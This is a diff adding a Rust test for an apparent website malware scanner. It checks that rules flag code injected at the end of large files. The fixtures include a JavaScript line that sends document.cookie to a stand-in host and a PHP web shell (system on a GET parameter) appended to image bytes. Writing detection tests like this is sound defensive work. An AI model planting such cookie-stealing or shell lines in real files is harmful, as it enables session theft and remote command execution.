@@ -311,3 +311,43 @@ pub fn detection_works_on_representative_samples() {
         .iter()
         .any(|a| a.login == "wp_update_service" && !a.flags.is_empty()));
 }
+
+/// Injections appended to the end of big files are seen: only the head and a rolling tail
+/// of a file go through the rules, and the tail must be exactly its last bytes.
+pub fn injections_at_the_end_of_big_files_are_seen() {
+    let mut js = b"/* big bundle */\n".to_vec();
+    while js.len() < (5 << 20) + 12_345 {
+        js.extend_from_slice(b"var a = [1, 2, 3]; function f(x) { return x + 1; }\n");
+    }
+    js.extend_from_slice(
+        b"if(0){new Image().src='https://c.example.invalid/?c='+document.cookie;}\n",
+    );
+    let mut img = b"\xff\xd8\xff\xe0".to_vec();
+    img.extend((0..300_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8 | 0x80));
+    img.extend_from_slice(b"<?php __halt_compiler(); system($_GET['c']);");
+    let r = scan(&zip_files(&[
+        ("site/bundle.js", &js),
+        ("site/photo.jpg", &img),
+    ]))
+    .unwrap();
+    let rules = |p: &str| {
+        status_of(&r, p)
+            .map(|f| {
+                f.findings
+                    .iter()
+                    .map(|x| x.rule.clone())
+                    .collect::<Vec<_>>()
+            })
+            .unwrap_or_default()
+    };
+    assert!(
+        rules("site/bundle.js").contains(&"js-cookie-exfiltration".to_string()),
+        "{:?}",
+        rules("site/bundle.js")
+    );
+    assert!(
+        rules("site/photo.jpg").contains(&"php-in-image".to_string()),
+        "{:?}",
+        rules("site/photo.jpg")
+    );
+}
